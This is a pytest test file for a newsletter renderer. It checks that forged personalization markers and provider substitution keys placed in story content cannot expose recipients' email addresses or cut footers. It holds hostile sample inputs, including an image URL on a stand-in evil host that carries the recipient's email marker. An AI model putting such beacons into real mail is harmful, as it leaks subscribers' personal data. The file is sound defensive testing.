"""Per-recipient markers are unforgeable: the attacks of issue #13 (High 1 and 2).

A story (title, summary, body, link, image, tags, a translation, a machine translation)
carries every marker-like string an attacker could try: the fixed form used before
nonces (``@@nl:email@@``), conditionals that would pair with the footer's, guessed
nonces, and the substitution keys of the providers that substitute server-side. Whatever
it carries, a recipient's address and links appear only where the template put them,
and a reader without a name still gets every story and the whole footer.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from datetime import date
from pathlib import Path

import lxml.html
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.config import Settings
from newsletter.errors import RenderError
from newsletter.models import DigestEntry, OutgoingMessage, RenderedVariant
from newsletter.render.preview import write_variant
from newsletter.render.renderer import Renderer
from newsletter.send.compose import Composer, Recipient
from newsletter.send.personalize import markers, personalize, require_markers, shared_body
from newsletter.send.providers.mailgun import MailgunProvider
from newsletter.send.providers.sendgrid import SendgridProvider
from newsletter.send.tokens import TokenSigner
from send.marker_attacks import (
    CLOSERS,
    FORGED,
    KEYS,
    LAST,
    LEAK,
    READER,
    assert_unharmed,
    entries,
    hostile,
)
from send.providers import fake_mailgun, fake_sendgrid


@pytest.fixture
def tagged(make_config: Callable[..., Settings]) -> Settings:
    """Sections by tag: a tag is content, and it becomes a section title."""
    return make_config(segments=[{"name": "members", "sections": "tag"}])


def render(settings: Settings, items: Sequence[DigestEntry] | None = None) -> RenderedVariant:
    """The Bulgarian variant of the hostile edition."""
    return Renderer(settings).render(
        segment=settings.segments[0],
        period_label="23–29.11.2026",
        edition_date=date(2026, 11, 27),
        entries=entries() if items is None else items,
        locale="bg",
        view_url="https://news.example.org/archive/7/bg",
    )


def test_forged_markers_in_every_field_are_text(tagged: Settings) -> None:
    """The attack in every field reaches the reader as text: no value, no cut."""
    variant = render(tagged)
    html, text = personalize(variant, READER)
    assert_unharmed(html, text, READER)
    assert "@@nl:if:name@@" in text and "@@nl:email@@" in text  # shown, not obeyed
    doc = lxml.html.document_fromstring(html)
    lead = doc.xpath("//img[contains(@class, 'lead-image')]")[0]
    assert lead.get("src").startswith(LEAK) and "@@nl:email@@" in lead.get("alt")
    sections = [h.text_content() for h in doc.xpath("//h2[@class='section-title']")]
    assert any("@@nl:if:name@@" in s for s in sections)


def test_a_reader_with_a_name_gets_it_once(tagged: Settings) -> None:
    """The greeting's marker is the template's: the name appears there and nowhere else."""
    values = {**READER, "name": "Петя Иванова"}
    html, text = personalize(render(tagged), values)
    assert html.count("Петя Иванова") == 1 and text.count("Петя Иванова") == 1
    assert "Здравейте, Петя Иванова," in text


def test_markers_of_another_render_are_text(tagged: Settings) -> None:
    """Each render draws its own nonce: markers taken from one variant are text in the next."""
    first = render(tagged)
    stolen = " ".join(markers(first.nonce).context().values())
    items = [
        DigestEntry(
            hostile(1, title=f"Открадено {stolen}", link=f"{LEAK}&s={stolen}"), "bg", False
        ),
        *entries()[1:],
    ]
    second = render(tagged, items)
    assert second.nonce != first.nonce and len(second.nonce) >= 16
    html, text = personalize(second, READER)
    assert_unharmed(html, text, READER)
    assert stolen in text


def test_markers_survive_premailer_in_urls_and_text(tagged: Settings) -> None:
    """The template's markers come out of Jinja and premailer whole, in href and text."""
    variant = render(tagged)
    own = markers(variant.nonce).placeholders
    doc = lxml.html.document_fromstring(variant.html)
    hrefs = doc.xpath("//a/@href")
    assert own["unsubscribe_url"] in hrefs and own["preferences_url"] in hrefs
    for marker in own.values():
        assert marker in variant.html and marker in variant.text


_PIECES = st.sampled_from(
    [
        *FORGED,
        *CLOSERS,
        "@@",
        "@@nl",
        ":",
        "if:",
        "else@@",
        "end@@",
        "%",
        "recipient.",
        "&amp;",
        "<b>",
        " ",
    ]
)


@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(title=st.lists(_PIECES, max_size=12).map("".join), query=st.lists(_PIECES, max_size=8))
def test_any_marker_soup_in_title_and_link_is_harmless(
    tagged: Settings, title: str, query: list[str]
) -> None:
    """Whatever mix of marker pieces a title and a link carry, nothing leaks or is cut."""
    link = "https://evil.example/x?q=" + "".join(query)
    items = [DigestEntry(hostile(1, title=title or "x", link=link), "bg", False), *entries()[1:]]
    html, text = personalize(render(tagged, items), READER)
    assert_unharmed(html, text, READER)


# -- composed messages, shared bodies and providers that substitute server-side ----------


def compose(settings: Settings, variant: RenderedVariant) -> list[OutgoingMessage]:
    """Messages for two readers without a name and one with a name."""
    composer = Composer(
        settings, TokenSigner(["test-secret"]), edition_id=7, segment="members", period="2026-W48"
    )
    readers = [
        ("petya.victim@example.org", ""),
        ("ivan.reader@example.org", "Иван Петров"),
        ("gergana.victim@example.org", ""),
    ]
    return [
        composer.compose(variant, Recipient(100 + i, 10 + i, email, name))
        for i, (email, name) in enumerate(readers)
    ]


def by_body(messages: list[OutgoingMessage]) -> list[list[OutgoingMessage]]:
    """Messages grouped as the providers group them: one request per shared body."""
    groups: dict[str, list[OutgoingMessage]] = {}
    for msg in messages:
        assert msg.shared is not None
        groups.setdefault(msg.shared.key, []).append(msg)
    assert sorted(map(len, groups.values())) == [1, 2]
    return list(groups.values())


def values_of(msg: OutgoingMessage, variant: RenderedVariant) -> dict[str, str]:
    """The raw values the Composer substituted for ``msg``."""
    text_markers = markers(variant.nonce).text_placeholders
    return {k: msg.substitutions[text_markers[k]] for k in KEYS}


def test_composed_messages_are_unharmed(tagged: Settings) -> None:
    """The messages a provider sends as they are (Postmark, Brevo, SES, SMTP, ...)."""
    variant = render(tagged)
    for msg in compose(tagged, variant):
        assert_unharmed(msg.html, msg.text, values_of(msg, variant))


def test_shared_body_keeps_only_the_templates_markers(tagged: Settings) -> None:
    """The shared body holds one marker per value the template shows, nothing from content."""
    variant = render(tagged)
    own = markers(variant.nonce)
    html, text = shared_body(variant, frozenset({"email", "unsubscribe_url", "preferences_url"}))
    for key in ("email", "unsubscribe_url", "preferences_url"):
        assert html.count(own.placeholders[key]) == 1, key
        assert text.count(own.text_placeholders[key]) == 1, key
    assert LAST in html and "1 Example Street" in text


def test_sendgrid_substitutions_reach_only_the_templates_markers(tagged: Settings) -> None:
    """SendGrid substitutes its keys anywhere in the body: none can be in content."""
    variant = render(tagged)
    for group in by_body(compose(tagged, variant)):
        delivered = fake_sendgrid.expand(SendgridProvider("key").payload(group))
        for msg, got in zip(group, delivered, strict=True):
            assert got.html == msg.html and got.text == msg.text
            assert_unharmed(got.html, got.text, values_of(msg, variant))


def test_mailgun_variables_in_content_stay_text(tagged: Settings) -> None:
    """Mailgun substitutes ``%recipient.*%`` (and its own variables) anywhere: content's are
    made inert, so only the template's markers become the reader's values."""
    variant = render(tagged)
    for group in by_body(compose(tagged, variant)):
        form: dict[str, list[str]] = {}
        for name, value in MailgunProvider("key", "mg.example.org").form(group):
            form.setdefault(name, []).append(value)
        for msg, got in zip(group, fake_mailgun.expand(form), strict=True):
            values = values_of(msg, variant)
            assert_unharmed(got.html, got.text, values)
            assert got.headers["List-Unsubscribe"] == f"<{values['unsubscribe_url']}>"
            # the reader sees what the story wrote
            assert got.html.replace("&#37;", "%") == msg.html
            assert got.text.replace("%\u2060", "%") == msg.text


# -- the public archive and previews ------------------------------------------------------


def test_preview_files_are_unharmed(tagged: Settings, tmp_path: Path) -> None:
    """``newsletter preview`` / the outbox index: neutral values, nothing cut."""
    path = write_variant(tagged, render(tagged), tmp_path / "members" / "bg.html")
    html, text = path.read_text(encoding="utf-8"), path.with_suffix(".txt").read_text("utf-8")
    assert LAST in html and LAST in text
    assert 'href="https://news.example.org/unsubscribe"' in html
    assert text.rstrip().endswith("1 Example Street, 9000 Varna, Bulgaria")
    assert "@@nl:if:name@@" in text


# -- variants stored before nonces ---------------------------------------------------------


def legacy_variant() -> RenderedVariant:
    """A variant as stored before nonces: fixed-form markers, some of them from a story."""
    html = (
        "<html><body><p>@@nl:if:name@@Здравейте, @@nl:name@@!@@nl:else@@Здравейте!@@nl:end@@</p>"
        '<img src="https://evil.example/p.png?e=@@nl:email@@" alt="x">'
        '<a href="@@nl:unsubscribe_url@@">Отписване</a></body></html>'
    )
    text = "Здравейте!\nОтписване: @@nl:unsubscribe_url@@\n"
    return RenderedVariant("bg", "Бюлетин", "", "Клъстер", html, text, 1)


def test_legacy_variants_are_never_personalized(make_config: Callable[..., Settings]) -> None:
    """No nonce: the fixed-form markers are text, and sending such a variant is refused."""
    old = legacy_variant()
    assert personalize(old, READER) == (old.html, old.text)
    with pytest.raises(RenderError, match=r"edition 7, locale bg: .*new edition"):
        compose(make_config(), old)
    with pytest.raises(RenderError, match="locale bg"):
        shared_body(old, frozenset(KEYS))
    assert require_markers(render(make_config()), "x").nonce
